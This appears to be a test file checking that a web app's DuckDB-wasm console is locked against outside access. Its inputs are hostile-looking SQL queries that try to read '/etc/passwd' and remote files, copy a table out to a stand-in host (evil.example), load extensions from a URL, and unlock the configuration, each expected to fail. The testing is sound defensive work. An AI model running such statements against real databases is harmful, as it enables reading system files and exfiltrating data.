/**
 * DuckDB-wasm itself refuses the outside world (src/db/lockdown.ts), whatever the console's
 * JavaScript check lets through. A second local server records every request it gets; a made-up
 * host (evil.example) resolves to it, and the harness records anything the page tries to send
 * off this machine. Console queries against URLs on that server, on the app's own origin and on
 * the made-up host, and against paths, fail with DuckDB's permission error and a clear line
 * above it; statements the JavaScript check refuses (ATTACH, COPY, INSTALL/LOAD, SET, PRAGMA)
 * are sent straight to the app's DuckDB connection (`withConnection` from the built module) and
 * fail there too. Zero requests are recorded. The app's own later loads still work: the report
 * texts (loaded after the first view) open, and an imported report is appended and restored
 * after a reload.
 * Screenshots: test-results/screenshots/console-locked.png, console-locked-1920.png.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Page } from 'playwright-core'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { app, blocked, consoleProblems, DIST, goto, newContext, openPage, pageErrors, poll, shot, startApp, stopApp, waitReady } from './harness'

const recorded: string[] = []
let other: Server
let port = 0
let page: Page

beforeAll(async () => {
  other = createServer((req, res) => {
    recorded.push(`${req.method} ${req.headers.host}${req.url}`)
    res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*' }).end('secret,value\nx,1\n')
  })
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', r))
  port = (other.address() as AddressInfo).port
  page = await startApp(['--host-resolver-rules=MAP evil.example 127.0.0.1'])
})

afterAll(async () => {
  await stopApp()
  await new Promise((r) => other.close(r))
})

/** The app's DuckDB connection, past every JavaScript check: the built db module's own `withConnection`. */
async function rawQuery(p: Page, sql: string): Promise<string> {
  const mod = readdirSync(join(DIST, 'assets')).find((f) => /^duckdb-[\w-]+\.js$/.test(f) && !f.includes('worker'))
  // A string, not a function: vitest would rewrite a function's import() for Node.
  return p.evaluate(`(async () => {
    const db = await import(${JSON.stringify(`/assets/${mod}`)})
    try {
      await db.withConnection((c) => c.query(${JSON.stringify(sql)}))
      return 'ok'
    } catch (e) {
      return String(e instanceof Error ? e.message : e)
    }
  })()`)
}

describe('the console cannot reach any URL or path', () => {
  it('read_* on URLs and paths fail inside DuckDB with a clear message, and nothing is requested', async () => {
    const appUrl = app().url
    await goto(page, '/explore')
    await page.click('[data-tab="sql"]')
    const input = page.locator('[data-testid="sql-input"]')
    await input.waitFor()
    // The app's own loads are done: the last of them, the published corrections, is read once the tables are ready (a
    // loaded machine can take it past the console's first query).
    await poll(() => app().requests.includes('/data/corrections.json')).toBe(true)
    const before = app().requests.length
    const targets = [
      `http://127.0.0.1:${port}/a.csv`,
      `http://localhost:${port}/b.csv`,
      `http://evil.example:${port}/c.csv`,
      `https://evil.example/d.csv`,
      `${appUrl}/data/reports.csv`,
      '/data/observations.csv',
      'data/reports.csv',
      '/etc/passwd',
      's3://bucket/e.csv',
    ]
    const queries = targets.flatMap((t) => [
      `SELECT * FROM read_csv('${t}')`,
      `SELECT * FROM read_text('${t}')`,
      `SELECT * FROM read_blob('${t}')`,
      // A quoted name is read as a file only when it ends like one; '/etc/passwd' is a table name.
      ...(t.endsWith('.csv') ? [`SELECT * FROM '${t}'`] : []),
    ])
    queries.push(`SELECT * FROM read_csv_auto(['${targets[0]}', '${targets[2]}'])`, `SELECT * FROM glob('${targets[0]}')`, `SELECT * FROM sniff_csv('${targets[2]}')`)
    for (const sql of queries) {
      await input.fill(sql)
      await input.press('Control+Enter')
      const url = /'([^']+)'/.exec(sql)![1]
      await poll(() => page.textContent('[data-testid="sql-error"]')).toContain(url)
      const error = page.locator('[data-testid="sql-error"]')
      expect(await error.getAttribute('data-kind'), sql).toBe('db')
      expect(await error.textContent(), sql).toMatch(/Permission Error: Cannot access file .* disabled by configuration/)
      expect(await page.getAttribute('[data-testid="sql-engine-refusal"]', 'data-engine'), sql).toBe('external')
    }
    expect(await page.textContent('[data-testid="sql-engine-refusal"]')).toContain('不能读取网址或文件')
    await shot(page, 'console-locked', false)
    await page.setViewportSize({ width: 1920, height: 1080 })
    await shot(page, 'console-locked-1920', false)
    await page.setViewportSize({ width: 1366, height: 768 })

    // read_parquet / read_json would need an extension: refused, never fetched.
    for (const sql of [`SELECT * FROM read_parquet('${targets[0]}')`, `SELECT * FROM read_json('${targets[2]}')`]) {
      await input.fill(sql)
      await input.press('Control+Enter')
      await poll(() => page.textContent('[data-testid="sql-error"]')).toContain(sql.includes('parquet') ? 'parquet extension' : 'json extension')
      expect(await page.getAttribute('[data-testid="sql-engine-refusal"]', 'data-engine')).toBe('extension')
    }

    // The JavaScript check still gives its own message for what it knows.
    await input.fill(`ATTACH '${targets[0]}' AS x`)
    await input.press('Control+Enter')
    await poll(() => page.getAttribute('[data-testid="sql-error"]', 'data-kind')).toBe('refused')
    expect(await page.textContent('[data-testid="sql-error"]')).toContain('ATTACH')

    // The settings are what the lockdown set.
    await input.fill(`SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked, current_setting('autoload_known_extensions') AS autoload`)
    await input.press('Control+Enter')
    await poll(() => page.$$eval('[data-testid="sql-table"] tbody td', (tds) => tds.map((td) => td.textContent?.trim()))).toEqual(['false', 'true', 'false'])

    expect(recorded).toEqual([])
    expect(blocked.filter((u) => u.includes('evil.example'))).toEqual([])
    const since = app().requests.slice(before)
    expect(since.filter((p) => !/^\/assets\/[^/]+\.(js|css|woff2|wasm)$/.test(p) && p !== '/')).toEqual([])
  })

  it('statements past the JavaScript check fail inside DuckDB too, and nothing is requested', async () => {
    const url = `http://127.0.0.1:${port}/f`
    const evil = `http://evil.example:${port}/g`
    const refused: [string, RegExp][] = [
      [`SELECT * FROM read_csv('${evil}.csv')`, /Permission Error/],
      [`ATTACH '${url}.db' AS remote`, /Permission Error/],
      [`ATTACH '/tmp/x.db' AS local`, /Permission Error/],
      [`COPY observations TO '${evil}.csv'`, /Permission Error/],
      [`COPY observations TO 'out.csv'`, /Permission Error/],
      [`COPY observations FROM '${url}.csv'`, /Permission Error/],
      [`LOAD httpfs`, /Loading external extensions is disabled/],
      [`LOAD '${url}.duckdb_extension'`, /Loading external extensions is disabled/],
      ['SET enable_external_access = true', /configuration has been locked/],
      ['SET lock_configuration = false', /configuration has been locked/],
      ['RESET lock_configuration', /configuration has been locked/],
      ['SET autoinstall_known_extensions = true', /configuration has been locked/],
      [`SET custom_extension_repository = '${url}'`, /configuration has been locked/],
      ['PRAGMA threads = 4', /configuration has been locked/],
      ["PRAGMA memory_limit = '64GB'", /configuration has been locked/],
    ]
    for (const [sql, expected] of refused) expect(await rawQuery(page, sql), sql).toMatch(expected)
    // DuckDB-wasm's INSTALL is lazy (it would fetch at LOAD): it answers without a request, and the LOAD fails.
    expect(await rawQuery(page, `INSTALL httpfs FROM '${url}'`)).toBe('ok')
    expect(await rawQuery(page, 'LOAD httpfs')).toMatch(/Loading external extensions is disabled/)
    expect(recorded).toEqual([])
    expect(blocked.filter((u) => u.includes('evil.example'))).toEqual([])
  })

  it('the recorder and the blocker do see a request the page itself makes (control)', async () => {
    const ctx = await newContext()
    const p = await openPage(ctx)
    await p.goto(`http://127.0.0.1:${port}/control`).catch(() => undefined)
    await p.goto(`http://evil.example:${port}/control`).catch(() => undefined)
    await ctx.close()
    expect(recorded).toEqual([`GET 127.0.0.1:${port}/control`])
    expect(blocked).toContain(`http://evil.example:${port}/control`)
    recorded.length = 0
    blocked.length = 0
  })
})

describe('the app still loads its own data once locked', () => {
  it('report texts (loaded after the first view) open, an import is appended and restored after a reload', async () => {
    await goto(page, '/reports/fengjie-emergency-2022')
    await poll(() => page.locator('[data-testid="report-text"] mark').count()).toBeGreaterThan(3)
    await page.setInputFiles('[data-testid="import-input"]', {
      name: 'lock-test.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('锁定县司法局2024年法治政府建设情况报告\n2024年，锁定县司法局全年办理行政复议案件7件。\n锁定县司法局\n2025年1月5日\n'),
    })
    await poll(() => page.getAttribute('[data-testid="import-results"] li', 'data-ok')).toBe('true')
    await page.reload()
    await waitReady(page)
    await poll(() => page.locator('[data-testid="imported-list"] li[data-origin="stored"]').count()).toBe(1)
    expect(await rawQuery(page, 'SELECT 1')).toBe('ok')
  })

  it('no page errors or console warnings, nothing left this machine', () => {
    expect(pageErrors).toEqual([])
    expect(consoleProblems).toEqual([])
    expect(blocked).toEqual([])
    expect(recorded).toEqual([])
  })
})
